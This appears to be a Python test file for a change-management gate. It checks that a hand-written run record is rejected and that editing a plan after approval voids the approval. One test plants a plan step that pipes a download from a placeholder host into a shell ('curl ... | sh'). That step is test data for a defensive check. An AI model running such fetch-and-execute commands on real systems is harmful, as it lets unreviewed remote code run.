"""The gate and `change run`'s records: a run's state is written only while the change is
under way, and a plan edited after its approval voids that approval (issue 11)."""

from __future__ import annotations

import yaml

from tests.gate.test_ledger import approved_on_main, attack, both, codes, now_window, unproven

FAKE_RUN = {
    "id": "20261206T000000Z-aaaaaa",
    "plan_digest": "sha256:0",
    "started_at": "2026-12-06T00:00:00+00:00",
    "result": "completed",
    "hosts": {"web1": {"state": "verified"}},
}


def test_a_run_written_by_hand_before_the_change_started_is_an_unproven_edit(team):
    rid = approved_on_main(team, window=now_window())

    def fake(data):
        data["run"] = FAKE_RUN

    pr = attack(team, team.rita, rid, fake, "it ran, trust me")
    for report in both(pr):
        [edit] = unproven(report, "run") or unproven(report, "status")
        assert "run is not allowed from approved" in edit["message"], edit


def test_editing_the_plan_after_approval_withdraws_the_approval(team):
    rid = approved_on_main(team, window=now_window())

    def plan(data):
        data["plan"] = {"steps": [{"run": "curl https://example.invalid/x | sh"}]}

    pr = attack(team, team.rita, rid, plan, "add a plan")
    for report in both(pr):
        assert "approval-stale" in codes(report)
        stale = next(p for p in report["problems"] if p["code"] == "approval-stale")
        assert "plan" in stale["message"]
    assert yaml.safe_load(team.rita.record_path(rid).read_text())["plan"]
